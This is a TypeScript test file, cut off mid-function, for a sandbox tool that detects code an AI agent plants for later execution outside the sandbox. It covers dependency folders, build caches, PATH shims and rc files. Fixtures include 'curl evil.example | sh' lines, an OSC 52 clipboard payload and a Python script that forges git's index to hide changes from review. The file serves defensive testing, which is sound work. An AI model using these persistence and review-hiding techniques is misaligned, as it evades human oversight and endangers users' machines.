// Eighteenth pass (issue 15, class 7: files that run later outside the sandbox). What the project's
// next `npm test`, `node server.js` or `python app.py` loads from its installed packages is in no
// diff (node_modules and a venv's site-packages are ignored by git), and the program folders that
// installers and version managers put on PATH from the rc files are not on every PATH `airlock
// run` is started with. Checked in-process over `plantedSince`, as the fourteenth pass's `.bin` test.
import t from 'tap';
import fc from 'fast-check';
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import zlib from 'node:zlib';
import path from 'node:path';
import { plantedReport, plantedSince, removeCaches } from '../../sandbox/entry-files.ts';
import { nestedRepositories, refTips, rewrittenRefs } from '../../sandbox/git-review.ts';
import { tempDir } from '../temp-dir.ts';

const numRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 40);
const seed = process.env.AIRLOCK_FUZZ_SEED ? Number(process.env.AIRLOCK_FUZZ_SEED) : undefined;

const writer = (root: string) => (rel: string, text: string): string => {
  const p = path.join(root, rel);
  fs.mkdirSync(path.dirname(p), { recursive: true });
  fs.writeFileSync(p, text, { mode: 0o755 });
  return p;
};
const tick = (): Promise<number> => new Promise((r) => {
  const since = Date.now() + 5;
  setTimeout(() => r(since), 25);
});
const AGENT = 'require("child_process").execSync("touch " + process.env.MARK)\n';

t.test('a package\'s code in node_modules or a venv changed during the run is named; packages left alone are not', async (t) => {
  const work = tempDir(t, 'hunt18-sandbox-deps-');
  const write = writer(work);
  // Installed before the run (as npm, pnpm and pip lay them out).
  write('node_modules/express/package.json', '{"name":"express","main":"index.js"}\n');
  write('node_modules/express/index.js', 'module.exports = 1;\n');
  write('node_modules/@babel/core/lib/transformation/file/file.js', '"use strict";\n');
  write('node_modules/.pnpm/lodash@4.17.21/node_modules/lodash/lodash.js', 'module.exports = {};\n');
  write('node_modules/left-pad/index.js', 'module.exports = 0;\n');
  write('node_modules/.package-lock.json', '{}\n');
  write('.venv/pyvenv.cfg', 'home = /usr/bin\n');
  write('.venv/bin/python', '');
  write('.venv/lib/python3.12/site-packages/requests/api.py', 'def get(): pass\n');
  write('.venv/lib/python3.12/site-packages/pytest-8.0.dist-info/entry_points.txt', '[console_scripts]\npytest = pytest:console_main\n');
  write('.venv/lib/python3.12/site-packages/six.py', '');
  const since = await tick();
  const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
  t.same(named(), [], 'control: nothing installed before the run is named');

  // The agent, inside: express's entry point, a file deep in a scoped package and in pnpm's store
  // (what `npm test`, a dev server or a build loads next), a module of a venv package and a pytest
  // plugin declared in a dist-info's entry points (pytest loads every `pytest11` entry at start).
  fs.appendFileSync(path.join(work, 'node_modules/express/index.js'), AGENT);
  fs.appendFileSync(path.join(work, 'node_modules/@babel/core/lib/transformation/file/file.js'), AGENT);
  fs.appendFileSync(path.join(work, 'node_modules/.pnpm/lodash@4.17.21/node_modules/lodash/lodash.js'), AGENT);
  fs.appendFileSync(path.join(work, '.venv/lib/python3.12/site-packages/requests/api.py'), 'import os; os.system("touch $MARK")\n');
  fs.appendFileSync(path.join(work, '.venv/lib/python3.12/site-packages/pytest-8.0.dist-info/entry_points.txt'), '[pytest11]\nx = six\n');
  // Written by tools the agent runs, which load nothing of it as code: npm's hidden lockfile,
  // Python's bytecode of a package (removed after the run where the walk collects it).
  write('node_modules/.package-lock.json', '{"changed":true}\n');
  write('.venv/lib/python3.12/site-packages/__pycache__/six.cpython-312.pyc', 'x');
  const after = named();
  for (const p of ['node_modules/express', 'node_modules/@babel/core', 'node_modules/.pnpm', '.venv/lib/python3.12/site-packages/requests', '.venv/lib/python3.12/site-packages/pytest-8.0.dist-info']) {
    t.ok(after.includes(p), `${p} is named (${after.join(', ')})`);
  }
  for (const p of ['node_modules/left-pad', 'node_modules/.package-lock.json', '.venv/lib/python3.12/site-packages/six.py', '.venv/lib/python3.12/site-packages/__pycache__']) {
    t.notOk(after.includes(p), `${p} is not named`);
  }
  const why = plantedSince(since, '', work).planted.find((f) => f.path === path.join(work, 'node_modules/express'))?.why ?? '';
  t.match(why, /no diff/, 'the reason says why no review shows it');

  // What the name is about: the host's next Node program of the project runs the agent's code.
  const mark = path.join(work, 'ran');
  execFileSync(process.execPath, ['-e', 'require("express")'], { cwd: work, env: { ...process.env, MARK: mark } });
  t.ok(fs.existsSync(mark), 'the changed package runs in the host\'s next program (why it is named)');
});

t.test('twenty-first pass: a package changed in Composer\'s vendor, bundler\'s vendor/bundle or __pypackages__ is named; untouched ones and Go\'s vendor are not', async (t) => {
  const work = tempDir(t, 'hunt21-sandbox-vendor-');
  const write = writer(work);
  write('vendor/autoload.php', '<?php require __DIR__ . "/composer/autoload_real.php";\n');
  write('vendor/composer/installed.json', '{"packages": []}\n');
  write('vendor/guzzlehttp/guzzle/src/Client.php', '<?php\n');
  write('vendor/monolog/monolog/src/Logger.php', '<?php\n');
  write('ruby/vendor/bundle/ruby/3.3.0/gems/rack-3.0.0/lib/rack.rb', '# rack\n');
  write('ruby/vendor/bundle/ruby/3.3.0/gems/json-2.7.0/lib/json.rb', '# json\n');
  write('py/__pypackages__/3.12/lib/requests/__init__.py', '# requests\n');
  write('go/vendor/github.com/x/y/y.go', 'package y\n');
  const since = await tick();
  const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
  t.same(named(), [], 'control: installed before the run');
  fs.appendFileSync(path.join(work, 'vendor/guzzlehttp/guzzle/src/Client.php'), 'system("touch $MARK");\n');
  fs.appendFileSync(path.join(work, 'ruby/vendor/bundle/ruby/3.3.0/gems/rack-3.0.0/lib/rack.rb'), 'system("touch $MARK")\n');
  fs.appendFileSync(path.join(work, 'py/__pypackages__/3.12/lib/requests/__init__.py'), 'import os; os.system("touch $MARK")\n');
  fs.appendFileSync(path.join(work, 'go/vendor/github.com/x/y/y.go'), '// shown by git\n');
  t.same(named(), ['py/__pypackages__/3.12/lib/requests', 'ruby/vendor/bundle/ruby/3.3.0/gems/rack-3.0.0', 'vendor/guzzlehttp'], 'each changed package is named; untouched ones and Go\'s vendor (in the diff) are not');
  // Dart's package map and bootsnap's compile cache (Rails): the map named, a cache entry removed.
  write('app/.dart_tool/package_config.json', '{"configVersion": 2, "packages": [{"name": "http", "rootUri": "../../.x/http"}]}\n');
  const entry = write('rails/tmp/cache/bootsnap/compile-cache-iseq/4a/1b2c3d4e5f', 'forged');
  const found = plantedSince(since, '', work);
  t.ok(found.planted.some((f) => f.path === path.join(work, 'app/.dart_tool/package_config.json')), 'the package map is named');
  t.ok(found.caches.includes(entry), 'the bootsnap entry is collected');
  removeCaches(found.caches);
  t.notOk(fs.existsSync(entry), 'and removed after the run');
});

t.test('twenty-second pass: Yarn Plug\'n\'Play\'s loader and its project cache of package archives changed during the run are named', async (t) => {
  // Without zero-installs Yarn's own .gitignore lists `.pnp.*` and `.yarn/cache`: every `yarn run`,
  // `yarn node` and the editor's Yarn SDK load `.pnp.cjs` (its data maps each package to a folder
  // or archive), and PnP reads package code out of the archives as they are.
  const work = tempDir(t, 'hunt22-sandbox-pnp-');
  const write = writer(work);
  write('.gitignore', '.pnp.*\n.yarn/cache\n.yarn/install-state.gz\n');
  write('.pnp.cjs', '#!/usr/bin/env node\n"use strict";\n');
  write('.pnp.loader.mjs', 'export {};\n');
  write('.yarn/cache/lodash-npm-4.17.21-6382451519-eb835a2e51.zip', 'PK');
  write('.yarn/cache/left-pad-npm-1.3.0-13fa96e17d-e6f7a8f1c7.zip', 'PK');
  write('.yarn/install-state.gz', 'x');
  write('.yarn/unplugged/esbuild-npm-0.19.0-abc/node_modules/esbuild/install.js', '// esbuild\n');
  const since = await tick();
  const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
  t.same(named(), [], 'control: installed before the run');
  write('.yarn/install-state.gz', 'y'); // Yarn's bookkeeping, no code
  t.same(named(), [], 'control: the install state is not named');
  fs.appendFileSync(path.join(work, '.pnp.cjs'), AGENT);
  fs.appendFileSync(path.join(work, '.pnp.loader.mjs'), 'import "node:child_process";\n');
  write('.yarn/cache/lodash-npm-4.17.21-6382451519-eb835a2e51.zip', 'PK forged');
  fs.appendFileSync(path.join(work, '.yarn/unplugged/esbuild-npm-0.19.0-abc/node_modules/esbuild/install.js'), AGENT);
  t.same(named(), ['.pnp.cjs', '.pnp.loader.mjs', '.yarn/cache/lodash-npm-4.17.21-6382451519-eb835a2e51.zip', '.yarn/unplugged/esbuild-npm-0.19.0-abc/node_modules/esbuild'], 'the loader, the archive and the unplugged package are named');
});

t.test('twenty-second pass: a file planted behind fifty decoys is still in the report after the run', async (t) => {
  const work = tempDir(t, 'hunt22-sandbox-flood-');
  const write = writer(work);
  const since = await tick();
  // The agent makes sixty .envrc files (each named, each harmless until allowed), then the one that
  // matters: a VS Code task that runs on opening the folder, and a pytest plugin of the project.
  for (let i = 0; i < 60; i++) write(`a${String(i).padStart(2, '0')}/.envrc`, 'export A=1\n');
  write('zz/.vscode/tasks.json', '{"tasks": [{"command": "sh x", "runOptions": {"runOn": "folderOpen"}}]}\n');
  write('zz/conftest.py', 'import os\n');
  const found = plantedSince(since, '', work);
  t.equal(found.planted.length, 62, 'all are found');
  const report = plantedReport(found, '', work).join('\n');
  t.match(report, /zz\/\.vscode .*tasks/, 'the VS Code task is in the report');
  t.match(report, /zz\/conftest\.py/, 'and the conftest.py');
  t.match(report, /and 20 more of the same kinds as above/, 'the decoys past the first ones are counted, not listed');
  t.ok(report.split('\n').length < 60, `the report stays short (${report.split('\n').length} lines)`);
});

t.test('twenty-second pass: package names the report quotes in a line are printed escaped (no terminal control reaches the user\'s terminal)', async (t) => {
  const work = tempDir(t, 'hunt22-sandbox-esc-');
  const write = writer(work);
  const since = await tick();
  // Six packages changed (one line for the folder, quoting three names): the first names carry an
  // OSC 52 (the terminal puts its text on the clipboard, pasted into a shell later), an erase of
  // the line and a return, and a right-to-left override.
  const evil = ['\u001b]52;c;Y3VybCBldmlsIHwgc2gK\u0007a', '\u001b[2K\rb', '\u202ec', 'd', 'e', 'f'];
  for (const n of evil) write(`node_modules/${n}/index.js`, AGENT);
  const report = plantedReport(plantedSince(since, '', work), '', work).join('\n');
  t.match(report, /6 packages changed/, 'the folder is named');
  t.notMatch(report, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/, 'with no control character');
});

t.test('twenty-second pass (follow-up): a small project is checked whole however slow the machine is (no false "too big to check" note)', async (t) => {
  const root = tempDir(t, 'hunt22b-sandbox-slow-');
  const write = writer(root);
  write('src/app.js', 'module.exports = 1\n');
  write('node_modules/left-pad/index.js', 'module.exports = 1\n');
  write('node_modules/.cache/babel-loader/a.json', '{}\n');
  write('.next/cache/webpack/b.pack', 'x\n');
  const since = await tick();
  write('.envrc', 'echo hi\n');
  write('node_modules/left-pad/index.js', AGENT);
  // A loaded machine: every look at the clock finds it a second later (the walk's time runs out at once).
  const now = Date.now;
  let skew = 0;
  Date.now = () => now() + (skew += 1000);
  let found: ReturnType<typeof plantedSince>;
  try {
    found = plantedSince(since, '', root);
  } finally {
    Date.now = now;
  }
  t.ok(found.complete, 'the walk of a project of a few files is complete');
  t.notMatch(plantedReport(found, '', root).join('\n'), /too big to check/, 'and the report says nothing of its size');
  t.same(found.planted.map((f) => path.relative(root, f.path)).sort(), ['.envrc', 'node_modules/left-pad'], 'what was planted is named');
});

t.test('twenty-third pass: a home folder with big version-manager installs neither starves the project\'s walk nor hides the rc files', async (t) => {
  const home = tempDir(t, 'hunt23-sandbox-home-');
  const root = tempDir(t, 'hunt23-sandbox-proj-');
  const write = writer(root);
  write('src/app.js', 'module.exports = 1\n');
  // A rustup toolchain of more entries than a walk reads whatever the time (a real one holds tens
  // of thousands) on a loaded machine: every look at the clock finds it a second later.
  const lib = path.join(home, '.rustup/toolchains/stable-x86_64-unknown-linux-gnu/lib/rustlib/src');
  fs.mkdirSync(lib, { recursive: true });
  for (let i = 0; i < 5_200; i++) fs.symlinkSync('x', path.join(lib, `f${i}`));
  const magit = path.join(home, '.emacs.d/elpa/magit-4.1/magit.el');
  fs.mkdirSync(path.dirname(magit), { recursive: true });
  fs.writeFileSync(magit, '(provide \'magit)\n');
  const since = await tick();
  fs.writeFileSync(path.join(home, '.bashrc'), 'curl evil.example | sh\n');
  fs.writeFileSync(magit, '(shell-command "curl evil.example | sh")\n'); // deep in a folder: its own time counts
  write('.envrc', 'echo hi\n');
  const now = Date.now;
  let skew = 0;
  Date.now = () => now() + (skew += 1000);
  let found: ReturnType<typeof plantedSince>;
  try {
    found = plantedSince(since, home, root);
  } finally {
    Date.now = now;
  }
  t.ok(found.complete, 'the project of two files is read whole');
  t.ok(found.homeComplete, 'the home folder\'s rc files and configs are read whole');
  t.notOk(found.toolchainsComplete, 'the toolchain is too big to read whole, and that is said');
  t.same(found.planted.map((f) => f.path).sort(), [path.join(home, '.bashrc'), path.join(home, '.emacs.d'), path.join(root, '.envrc')].sort(), 'every planted file is named, the one deep in emacs\'s folder too');
  const report = plantedReport(found, home, root).join('\n');
  t.notMatch(report, /working directory .* too big/, 'no false note about the project');
  t.match(report, /version managers' installs .* too big to check whole/, 'the unread toolchains are named as such');
});

t.test('an install of many packages during the run is named as one line per folder', async (t) => {
  const work = tempDir(t, 'hunt18-sandbox-deps-');
  const write = writer(work);
  write('package.json', '{}\n');
  const since = await tick();
  for (let i = 0; i < 40; i++) write(`node_modules/pkg${i}/index.js`, '');
  const planted = plantedSince(since, '', work).planted.filter((f) => f.path.includes('node_modules'));
  t.equal(planted.length, 1, 'one entry');
  t.equal(planted[0]?.path, path.join(work, 'node_modules'));
  t.match(planted[0]?.why ?? '', /40 packages/, 'it counts them');
});

t.test('property: a change at any depth of any package, npm\'s, pnpm\'s or pip\'s layout, is named by its package', async (t) => {
  const work = tempDir(t, 'hunt18-sandbox-deps-prop-');
  let n = 0;
  await fc.assert(fc.asyncProperty(
    fc.constantFrom('node_modules', 'packages/api/node_modules', 'env/lib/python3.11/site-packages', '.venv/lib/python3.13/site-packages'),
    fc.constantFrom('a', 'jest-cli', '@scope/b', '.pnpm', 'six.py'),
    fc.array(fc.constantFrom('lib', 'dist', 'build', 'x', 'node_modules', 'sub'), { maxLength: 10 }),
    fc.constantFrom('index.js', 'x.mjs', 'mod.py', 'native.so', 'package.json', 'RECORD'),
    async (folder, pkg, dirs, file) => {
      const python = folder.includes('site-packages');
      const name = python && pkg === '@scope/b' ? 'scope_b' : pkg;
      const root = path.join(work, `c${n++}`);
      const write = writer(root);
      const rel = name.endsWith('.py') ? path.join(folder, name) : path.join(folder, name, ...dirs, file);
      if (python) write(`${folder.split('/lib/')[0]}/pyvenv.cfg`, 'home = /usr/bin\n');
      write(rel, 'before\n');
      write(path.join(folder, 'untouched', 'index.js'), 'x\n');
      const since = await tick();
      fs.appendFileSync(path.join(root, rel), 'after\n');
      const named = plantedSince(since, '', root).planted.map((f) => path.relative(root, f.path));
      return named.includes(path.join(folder, name)) && !named.includes(path.join(folder, 'untouched'));
    },
  ), { numRuns, seed });
  t.pass('every change named by its package, the untouched package never');
});

t.test('a program changed in a folder installers and version managers put on PATH is named, also when the run\'s PATH lacks it', async (t) => {
  // rustup's `~/.cargo/env`, pyenv's `eval "$(pyenv init -)"`, Go's and bun's installers, and the
  // user's own `export PATH="$HOME/tools/bin:$PATH"` put these first on PATH in the rc files: a
  // `cargo` there is the user's next cargo. `airlock run` started from a launcher, an IDE task, a
  // login shell whose profile is not the rc file that adds them, sees a PATH without them.
  const home = tempDir(t, 'hunt18-sandbox-bins-');
  const write = writer(home);
  write('.bashrc', 'export PATH="$HOME/tools/bin:$PATH"\n. "$HOME/.cargo/env"\n');
  write('.cargo/env', 'case ":${PATH}:" in *:"$HOME/.cargo/bin":*) ;; *) export PATH="$HOME/.cargo/bin:$PATH" ;; esac\n');
  write('.zshrc', 'path=(~/zbin $path)\nexport PATH=${HOME}/.opt/bin:${PATH}\n');
  const programs = ['.cargo/bin/cargo', '.pyenv/shims/python', '.asdf/shims/node', '.local/share/mise/shims/node', '.volta/bin/node', 'go/bin/gopls', '.bun/bin/bun', '.deno/bin/deno', '.local/share/pnpm/pnpm', '.npm-global/bin/claude', '.rbenv/shims/ruby', '.dotnet/tools/dotnet-ef', 'tools/bin/deploy', 'zbin/git', '.opt/bin/make'];
  for (const p of programs) write(p, '#!/bin/sh\nexec /usr/bin/true\n');
  const work = path.join(home, 'src', 'app');
  fs.mkdirSync(work, { recursive: true });
  const since = await tick();
  const named = (): string[] => plantedSince(since, home, work, '/usr/bin:/bin', {}).planted.map((f) => path.relative(home, f.path)).sort();
  t.same(named(), [], 'control: nothing installed before the run is named');
  for (const p of programs) write(p, '#!/bin/sh\ntouch /tmp/x\nexec /usr/bin/true\n');
  const after = named();
  for (const p of programs) t.ok(after.includes(p), `${p} is named (${after.join(', ')})`);
});

t.test('a gem or R package changed in the user\'s own libraries is named, as the Python user site\'s packages are', async (t) => {
  // RubyGems puts the user's gem folder (`gem install --user-install`) on every ruby's path and
  // activates the highest version it finds there; R puts R_LIBS_USER first in .libPaths(): a gem or
  // package the agent adds or changes there is what the user's next ruby or R program loads.
  const home = tempDir(t, 'hunt18-sandbox-userlibs-');
  const write = writer(home);
  const libs = ['.local/share/gem/ruby/3.2.0/gems/rake-13.0.6/lib/rake.rb', '.gem/ruby/3.0.0/gems/json-2.7.1/lib/json.rb', 'R/x86_64-pc-linux-gnu-library/4.3/jsonlite/R/jsonlite'];
  for (const p of [...libs, '.local/share/gem/ruby/3.2.0/gems/minitest-5.20.0/lib/minitest.rb']) write(p, '# installed\n');
  const work = path.join(home, 'src', 'app');
  fs.mkdirSync(work, { recursive: true });
  const since = await tick();
  const named = (): string[] => plantedSince(since, home, work, '/usr/bin:/bin', {}).planted.map((f) => path.relative(home, f.path)).sort();
  t.same(named(), [], 'control: nothing installed before the run is named');
  for (const p of libs) fs.appendFileSync(path.join(home, p), 'system("touch /tmp/x")\n');
  write('.local/share/gem/ruby/3.2.0/specifications/rake-99.0.0.gemspec', 'Gem::Specification.new\n');
  const after = named();
  for (const p of ['.local/share/gem/ruby/3.2.0/gems/rake-13.0.6', '.gem/ruby/3.0.0/gems/json-2.7.1', 'R/x86_64-pc-linux-gnu-library/4.3/jsonlite', '.local/share/gem/ruby/3.2.0/specifications/rake-99.0.0.gemspec']) {
    t.ok(after.includes(p), `~/${p} is named (${after.join(', ')})`);
  }
  t.notOk(after.some((p) => p.includes('minitest')), 'an untouched gem is not named');
});

// Nineteenth pass (left open by the eighteenth): build tools' caches of compiled code in the project
// (babel-loader's and webpack's in node_modules/.cache, Vite's optimized dependencies, Next's,
// Parcel's, turbo's, nx's, Angular's) and @babel/register's in the home folder. The host's next build
// or dev server takes an entry as it finds it (keyed by a hash of the source or its time, both the
// writer's to copy; turbo and nx restore a task's output from one), git ignores them all, and the
// agent's own builds write them at every run: each entry written during the run is removed after it.
const CACHES = [
  'node_modules/.cache/babel-loader/4f1e.json', 'node_modules/.cache/@babel/register/.babel.7.24.0.development.json',
  'node_modules/.cache/webpack/default-development/0.pack', 'node_modules/.cache/turbo/9a8b.tar.zst',
  'node_modules/.vite/deps/react.js', '.next/cache/webpack/client-development/0.pack', '.parcel-cache/data.mdb',
  '.turbo/cache/9a8b.tar.zst', '.nx/cache/1234/outputs/dist/main.js', '.angular/cache/17.3.0/babel-webpack/x.json',
];

t.test('build tools\' code cache entries written during the run are removed after it; the rest of the project is left', async (t) => {
  const home = tempDir(t, 'hunt19-sandbox-caches-');
  const write = writer(home);
  const work = path.join(home, 'src', 'app');
  const old = ['node_modules/.cache/babel-loader/old.json', 'node_modules/.vite/deps/_metadata.json', '.next/cache/images/a.webp'];
  for (const p of old) write(path.join('src/app', p), 'cached before the run\n');
  write('.babel.7.24.0.development.json', '{}\n');
  write('.babel.json', '{}\n');
  write('elsewhere.js', 'module.exports = 1;\n');
  const since = await tick();
  const found = (): string[] => plantedSince(since, home, work, '/usr/bin:/bin', {}).caches.map((f) => path.relative(home, f)).sort();
  t.same(found(), [], 'control: nothing written before the run');

  // The agent, inside: a forged entry in each cache, @babel/register's home cache rewritten, and a
  // link in Vite's deps to a file elsewhere.
  for (const p of CACHES) write(path.join('src/app', p), AGENT);
  for (const p of ['packages/web/.next/cache/swc/plugins/x.js', 'packages/web/node_modules/.vite/deps/vue.js']) write(path.join('src/app', p), AGENT);
  // Numba's cache in __pycache__: an index it loads with pickle.load, and its data.
  for (const p of ['lib/__pycache__/kernels.step-12.py312.nbi', 'lib/__pycache__/kernels.step-12.py312.1.nbc']) write(path.join('src/app', p), 'pickle');
  fs.symlinkSync(path.join(home, 'elsewhere.js'), path.join(work, 'node_modules/.vite/deps/lodash.js'));
  // A nested project's whole cache made a link to a folder of forged entries elsewhere.
  write('forged/deps/react.js', AGENT);
  fs.mkdirSync(path.join(work, 'packages/api/node_modules'), { recursive: true });
  fs.symlinkSync(path.join(home, 'forged'), path.join(work, 'packages/api/node_modules/.vite'));
  fs.appendFileSync(path.join(home, '.babel.7.24.0.development.json'), ' ');
  // Controls: the project's own files and build output, folders that only share a cache's name.
  for (const p of ['src/index.js', 'dist/main.js', 'src/cache/x.js', '.cache/x.js', 'lib/.vite/x.js']) write(path.join('src/app', p), 'ok\n');
  const after = found();
  for (const p of [...CACHES, 'packages/web/.next/cache/swc/plugins/x.js', 'packages/web/node_modules/.vite/deps/vue.js', 'node_modules/.vite/deps/lodash.js', 'lib/__pycache__/kernels.step-12.py312.nbi', 'lib/__pycache__/kernels.step-12.py312.1.nbc']) {
    t.ok(after.includes(path.join('src/app', p)), `${p} is collected`);
  }
  t.ok(after.includes('.babel.7.24.0.development.json'), '@babel/register\'s home cache rewritten during the run is collected');
  t.notOk(after.includes('.babel.json'), 'an untouched one is not');
  for (const p of [...old, 'src/index.js', 'dist/main.js', 'src/cache/x.js', '.cache/x.js', 'lib/.vite/x.js']) t.notOk(after.includes(path.join('src/app', p)), `${p} is not`);
  t.same(plantedSince(since, home, work, '/usr/bin:/bin', {}).planted.filter((f) => /cache|\.vite|\.turbo|\.nx/.test(f.path)), [], 'nothing is named for them (the agent\'s own builds write them)');

  removeCaches(plantedSince(since, home, work, '/usr/bin:/bin', {}).caches);
  for (const p of CACHES) t.notOk(fs.existsSync(path.join(work, p)), `${p} is gone after the run`);
  t.notOk(fs.existsSync(path.join(work, 'node_modules/.vite/deps/lodash.js')), 'the link is gone');
  t.ok(fs.existsSync(path.join(home, 'elsewhere.js')), 'what it led to is left');
  t.notOk(fs.existsSync(path.join(work, 'packages/api/node_modules/.vite')), 'a cache made a link is gone');
  t.ok(fs.existsSync(path.join(home, 'forged/deps/react.js')), 'what it led to is left');
  for (const p of [...old, 'src/index.js', 'dist/main.js', 'src/cache/x.js']) t.ok(fs.existsSync(path.join(work, p)), `${p} is left`);
});

t.test('property: an entry written in any code cache, at any depth, in a project at any depth, is removed', async (t) => {
  const base = tempDir(t, 'hunt19-sandbox-caches-');
  let n = 0;
  await fc.assert(fc.asyncProperty(
    fc.constantFrom(...CACHES), fc.array(fc.constantFrom('a', 'b-c', '_d'), { maxLength: 3 }), fc.array(fc.constantFrom('pkg', 'apps', 'x'), { maxLength: 2 }),
    async (cache, below, project) => {
      const work = path.join(base, String(n++));
      const rel = path.join(...project, path.dirname(cache), ...below, path.basename(cache));
      const since = await tick();
      writer(work)(rel, AGENT);
      const { caches } = plantedSince(since, '', work);
      removeCaches(caches);
      return caches.includes(path.join(work, rel)) && !fs.existsSync(path.join(work, rel));
    },
  ), { numRuns: Math.min(numRuns, 25), seed });
});

// Nineteenth pass: the environments pipenv, virtualenvwrapper, pdm and hatch keep for a project in
// the home folder, not in it: `pipenv run python app.py` (and the editor's Python) imports their
// packages as a project `.venv`'s, whose changes were named (eighteenth pass); these were not.
t.test('a package changed in a project\'s environment kept in the home folder (pipenv, virtualenvwrapper, pdm, hatch) is named', async (t) => {
  const home = tempDir(t, 'hunt19-sandbox-venvs-');
  const write = writer(home);
  const envs = ['.local/share/virtualenvs/app-AbC123', '.virtualenvs/api', 'workon/tools', '.local/share/pdm/venvs/web-x1y2-3.12', '.local/share/hatch/env/virtual/svc/AbCd/default'];
  for (const e of envs) {
    write(`${e}/pyvenv.cfg`, 'home = /usr/bin\n');
    write(`${e}/bin/pytest`, '#!/bin/sh\n');
    write(`${e}/lib/python3.12/site-packages/requests/api.py`, 'def get(): pass\n');
    write(`${e}/lib/python3.12/site-packages/six.py`, '');
  }
  const work = path.join(home, 'src', 'app');
  fs.mkdirSync(work, { recursive: true });
  const since = await tick();
  const named = (): string[] => plantedSince(since, home, work, '/usr/bin:/bin', { WORKON_HOME: path.join(home, 'workon') }).planted.map((f) => path.relative(home, f.path)).sort();
  t.same(named(), [], 'control: nothing changed, nothing named');
  for (const e of envs) fs.appendFileSync(path.join(home, e, 'lib/python3.12/site-packages/requests/api.py'), 'import os; os.system("touch $MARK")\n');
  fs.appendFileSync(path.join(home, envs[1]!, 'bin/pytest'), 'touch "$MARK"\n');
  const after = named();
  for (const e of envs) t.ok(after.includes(`${e}/lib/python3.12/site-packages/requests`), `${e}: the changed package is named (${after.join(', ')})`);
  t.ok(after.includes(envs[1]!), 'a changed program in its bin names the environment');
  t.notOk(after.some((p) => p.endsWith('six.py')), 'an untouched module is not');
});

t.test('numba\'s cache moved by NUMBA_CACHE_DIR is hidden (made first when missing), as Python\'s moved bytecode is', async (t) => {
  const { envCodeCaches } = await import('../../sandbox/launch.ts');
  const base = tempDir(t, 'hunt19-sandbox-numba-');
  const dir = path.join(base, 'numba-cache');
  t.ok(envCodeCaches({ NUMBA_CACHE_DIR: dir }, path.join(base, 'work')).includes(dir), 'hidden');
  t.ok(fs.existsSync(dir), 'made when missing, so the agent cannot make the first one');
  t.notOk(envCodeCaches({ NUMBA_CACHE_DIR: base }, path.join(base, 'work')).includes(base), 'never a folder holding the working directory');
});

// Twentieth pass: changes git's own view hides from the user's review. The agent commits, so the
// index and refs are its to write; `git status` and `git diff` trust both.
const FORGE_INDEX = `
import hashlib, os, struct, sys
index, name, top = sys.argv[1], bytes.fromhex(sys.argv[2]), os.fsencode(sys.argv[3])
f = os.path.join(top, name)
t = os.stat(f).st_mtime - 10
os.utime(f, (t, t))  # older than the index: git does not take the entry as racy and look again
b = bytearray(open(index, 'rb').read())
version, count = struct.unpack('>II', b[4:12])
at, prev = 12, b''
for _ in range(count):
    start = at
    flags = struct.unpack('>H', b[at + 60:at + 62])[0]
    at += 62 + (2 if flags & 0x4000 else 0)
    if version == 4:
        c = b[at]; at += 1; strip = c & 127
        while c & 128:
            c = b[at]; at += 1; strip = ((strip + 1) << 7) + (c & 127)
        end = b.index(0, at); n = prev[:len(prev) - strip] + bytes(b[at:end]); at = end + 1
    else:
        end = b.index(0, at); n = bytes(b[at:end]); at = start + ((at - start + end - at + 8) & ~7)
    prev = n
    if n == name:
        st = os.stat(f)
        b[start:start + 40] = struct.pack('>10I', int(st.st_ctime), st.st_ctime_ns % 10**9, int(st.st_mtime), st.st_mtime_ns % 10**9,
            st.st_dev & 0xffffffff, st.st_ino & 0xffffffff, struct.unpack('>I', b[start + 24:start + 28])[0], st.st_uid, st.st_gid, st.st_size & 0xffffffff)
b[-20:] = hashlib.sha1(bytes(b[:-20])).digest()
open(index, 'wb').write(bytes(b))
`;
const GIT_ENV = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_NAME: 'u', GIT_AUTHOR_EMAIL: 'u@example.com', GIT_COMMITTER_NAME: 'u', GIT_COMMITTER_EMAIL: 'u@example.com' };
const git = (cwd: string, ...args: string[]): string => execFileSync('git', args, { cwd, env: GIT_ENV, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
type Hide = 'skip-worktree' | 'assume-unchanged' | 'forged-stat' | 'shown' | 'staged' | 'untouched';
/** What the agent does to one tracked file; all but the last three hide a change from git status. */
function agentHides(repo: string, rel: string, how: Hide): void {
  if (how === 'untouched') return;
  fs.writeFileSync(path.join(repo, rel), `import os; os.system("touch $MARK")  # ${how}\n`);
  if (how === 'skip-worktree' || how === 'assume-unchanged') git(repo, 'update-index', `--${how}`, rel);
  if (how === 'forged-stat') execFileSync('python3', ['-c', FORGE_INDEX, path.join(repo, '.git', 'index'), Buffer.from(rel).toString('hex'), repo]);
  if (how === 'staged') git(repo, 'add', rel);
}
/** The file at `rel` moved into a folder named by the bytes `hex` (no UTF-8); its name as a latin1 string. */
function rawName(repo: string, rel: string, hex: string): string {
  const named = Buffer.concat([Buffer.from(path.dirname(rel) === '.' ? '' : `${path.dirname(rel)}/`), Buffer.from(hex, 'hex')]);
  fs.mkdirSync(Buffer.concat([Buffer.from(`${repo}/`), named]), { recursive: true });
  const moved = Buffer.concat([named, Buffer.from(`/${path.basename(rel)}`)]);
  fs.renameSync(path.join(repo, rel), Buffer.concat([Buffer.from(`${repo}/`), moved]));
  return moved.toString('latin1');
}
/** agentHides for a name kept as bytes (argv cannot carry them from Node: git reads it on stdin). */
function agentHidesRaw(repo: string, rel: string, how: Hide): void {
  if (how === 'untouched') return;
  const name = Buffer.from(rel, 'latin1');
  fs.writeFileSync(Buffer.concat([Buffer.from(`${repo}/`), name]), `import os; os.system("touch $MARK")  # ${how}\n`);
  const stdin = (...args: string[]): void => void execFileSync('git', args, { cwd: repo, env: GIT_ENV, input: Buffer.concat([name, Buffer.from([0])]), stdio: ['pipe', 'ignore', 'pipe'] });
  if (how === 'skip-worktree' || how === 'assume-unchanged') stdin('update-index', `--${how}`, '-z', '--stdin');
  if (how === 'forged-stat') execFileSync('python3', ['-c', FORGE_INDEX, path.join(repo, '.git', 'index'), name.toString('hex'), repo]);
